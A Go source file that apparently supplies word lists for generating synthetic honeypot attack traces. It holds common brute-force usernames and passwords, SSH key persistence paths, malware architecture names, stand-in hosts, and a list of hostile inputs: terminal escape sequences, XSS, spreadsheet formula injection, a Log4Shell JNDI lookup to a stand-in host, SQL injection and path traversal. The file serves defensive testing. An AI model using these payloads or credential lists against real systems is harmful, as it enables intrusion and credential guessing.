package synth

// Lists are sorted by how common a word is, for low.

var usernames = []string{
	"root", "admin", "user", "test", "ubuntu", "support", "guest", "pi", "oracle", "ftp", "postgres", "git",
	"mysql", "nagios", "www", "hadoop", "deploy", "jenkins", "minecraft", "teamspeak", "ec2-user", "default", "operator",
	"supervisor", "telecomadmin", "service", "backup", "tomcat", "elastic", "ansible",
}

var passwords = []string{
	"123456", "password", "admin", "root", "1234", "12345", "toor", "test", "qwerty", "111111", "guest", "support",
	"ubuntu", "raspberry", "changeme", "letmein", "default", "00000000", "p@ssw0rd", "Passw0rd!", "abc123", "1q2w3e4r",
	"system", "user", "888888", "54321", "pass", "service", "super", "meinsm", "vizxv-like", "zlxx-like", "anko-like",
	"hunter22", "", "123", "1",
}

// hostile is what attackers send to trip up who reads their traces.
var hostile = []string{
	"\x1b[2J\x1b[1;1H\x1b[31mgone\x1b[0m",
	"\x1b]0;title\x07\x1b]8;;http://trap.test/\x07here\x1b]8;;\x07",
	"<script>alert('midden')</script>",
	"\"><img src=x onerror=alert(1)>",
	`=HYPERLINK("http://trap.test/?x="&A1,"open")`,
	"+1+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"user\u202egpj.exe",
	"\u2066left\u2069\u200bright\u200d",
	"nul\x00byte",
	"bell\x07back\b\f\tspace\r\nnext",
	"\x7f\u0085\u2028\u2029",
	"pässwörd", "пароль", "密码", "كلمة", "🦪🦪🦪",
	"'; DROP TABLE files; --",
	"${jndi:ldap://trap.test/a}",
	"%s%n%x%(message)s{0}",
	"../../../../etc/passwd",
	`C:\windows\system32\`,
	`b'\xff\xfe\x00'`, // what Python makes of bytes that are no text
	"\ufeffmark",
	"NULL", "null", "-1", "--help", "nan", "1e309",
}

var campaigns = []string{
	"moss", "fern", "limpet", "cockle", "whelk", "periwinkle", "barnacle", "razor", "oyster", "scallop", "mussel",
	"urchin", "kelp", "dulse", "bins", "update", "sys", "kworkerd", "a", "x", "loader", "setup", "run", "init", "sshd", "dota",
}

var architectures = []string{
	"x86", "mips", "mpsl", "arm", "arm5", "arm6", "arm7", "sh4", "ppc", "m68k", "spc", "i686", "x86_64", "aarch64",
}

var hostFirst = []string{
	"tide", "reef", "shoal", "brine", "sand", "drift", "foam", "salt", "cove", "skerry", "cliff", "dune", "marsh", "spit", "gull", "heron",
}

var hostLast = []string{"-cdn.test", "host.test", "net.example", "box.test", ".files.example", "-dl.invalid", "srv.test", ".static.example"}

// forwardHosts are what open proxies are asked for.
var forwardHosts = []string{
	"www.example.com", "mail.example.net", "check.proxy.test", "api.shop.example", "login.social.example", "smtp.post.test",
	"ads.tracker.example", "ip.echo.test", "video.stream.example", "search.example.org",
}

var forwardPorts = []int{443, 80, 443, 80, 25, 587, 993, 8080, 5222, 3478}

var targets = []string{
	"/root/.ssh/authorized_keys", "/root/.ssh/authorized_keys", "/home/admin/.ssh/authorized_keys", "~/.ssh/authorized_keys",
}

var redirectTargets = []string{"/tmp/.x", "/dev/shm/.tide", "/var/tmp/.cron", "/etc/cron.d/reef", "/tmp/up.txt"}

var terminals = [...][2]int64{{80, 24}, {120, 30}, {132, 43}, {200, 50}, {0, 0}, {97, 41}}

var variables = [][2]string{{"LANG", "en_US.UTF-8"}, {"LC_ALL", "C.UTF-8"}, {"LANG", "C.UTF-8"}, {"TERM", "xterm-256color"}, {"COLORTERM", "truecolor"}}

var machines = []string{"linux-x64-lsb", "linux-x64-lsb", "linux-arm-lsb", "linux-mips-msb", "bsd-aarch64-lsb"}
